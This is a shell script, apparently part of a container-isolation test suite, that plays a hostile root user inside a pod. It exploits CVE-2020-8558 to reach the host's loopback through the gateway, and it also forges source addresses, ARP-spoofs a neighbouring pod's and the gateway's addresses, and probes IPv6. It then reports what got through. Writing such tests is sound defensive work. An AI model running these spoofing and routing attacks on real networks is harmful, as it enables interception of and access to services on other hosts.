#!/bin/sh
# What a hostile pod does to dom0 and to its neighbours (busybox sh, run as root inside a pod by network.sh through
# `rkt enter`). It acts the way an attacker with root in the guest would, and prints what it did and what came back;
# the suite decides. Every step first shows that the attack was really mounted (the route the guest kernel chose,
# the packets ping sent), so that "nothing came back" means the packets were sent and dropped, not that they never
# left the guest.
#
#   net-attack.sh loopback GW PORT     dom0's 127.0.0.1:PORT through the gateway (CVE-2020-8558)
#   net-attack.sh gateway GW PORT      a new connection to a service on the gateway address, and a ping of it
#   net-attack.sh forge FORGED TARGET PORT GW   packets to TARGET from an address that is not the pod's
#   net-attack.sh arp GW OTHER         ARP claiming OTHER's address (to dom0) and the gateway's (to OTHER)
#   net-attack.sh ipv6 ADDR            ping6 of ADDR (dom0's link-local address) on eth0
request() { printf 'GET / HTTP/1.0\r\nHost: x\r\n\r\n'; }
cmd=$1
shift
case $cmd in
  loopback)
    gw=$1 port=$2
    # the guest kernel sends to 127.0.0.0/8 off the host only with route_localnet and without its local routes
    sysctl -w net.ipv4.conf.all.route_localnet=1 >/dev/null
    sysctl -w net.ipv4.conf.eth0.route_localnet=1 >/dev/null
    ip route del local 127.0.0.0/8 dev lo table local
    ip route del local 127.0.0.1 dev lo table local
    ip route add 127.0.0.1/32 via "$gw" dev eth0 onlink
    echo "route: $(ip route get 127.0.0.1 | head -n 1)"
    echo "answer: $(request | nc -w 5 127.0.0.1 "$port" | tr -d '\r' | tr '\n' ' ')"
    ip route del 127.0.0.1/32 via "$gw" dev eth0
    ip addr del 127.0.0.1/8 dev lo
    ip addr add 127.0.0.1/8 dev lo
    ;;
  gateway)
    gw=$1 port=$2
    echo "answer: $(request | nc -w 5 "$gw" "$port" | tr -d '\r' | tr '\n' ' ')"
    echo "ping: $(ping -c 2 -W 2 "$gw" 2>&1 | grep 'packets transmitted')"
    ;;
  forge)
    forged=$1 target=$2 port=$3 gw=$4
    ip addr add "$forged/32" dev eth0
    echo "ping: $(ping -c 3 -W 2 -I "$forged" "$target" 2>&1 | grep 'packets transmitted')"
    ip route add "$target/32" via "$gw" dev eth0 src "$forged"
    echo "route: $(ip route get "$target" | head -n 1)"
    echo "answer: $(request | nc -w 5 "$target" "$port" | tr -d '\r' | tr '\n' ' ')"
    ip route del "$target/32" via "$gw" dev eth0
    ip addr del "$forged/32" dev eth0
    ;;
  arp)
    gw=$1 other=$2
    # the other pod's address: gratuitous ARP, an unsolicited answer and a request to dom0, each claiming it
    ip addr add "$other/32" dev eth0
    arping -U -c 2 -I eth0 -s "$other" "$other" >/dev/null 2>&1
    arping -A -c 2 -I eth0 -s "$other" "$other" >/dev/null 2>&1
    echo "as other: $(arping -c 2 -w 3 -I eth0 -s "$other" "$gw" 2>&1 | grep -i 'sent')"
    # the gateway's address, to the other pod
    ip addr add "$gw/32" dev eth0
    arping -U -c 2 -I eth0 -s "$gw" "$gw" >/dev/null 2>&1
    echo "as gateway: $(arping -c 2 -w 3 -I eth0 -s "$gw" "$other" 2>&1 | grep -i 'sent')"
    ip addr del "$gw/32" dev eth0
    ip addr del "$other/32" dev eth0
    ;;
  ipv6)
    echo "own: $(ip -6 addr show dev eth0 scope link | grep -o 'fe80:[0-9a-f:]*' | head -n 1)"
    echo "ping6: $(ping6 -c 3 -W 2 -I eth0 "$1" 2>&1 | grep 'packets transmitted')"
    ;;
  *)
    echo "net-attack.sh: unknown command '$cmd'" >&2
    exit 2
    ;;
esac
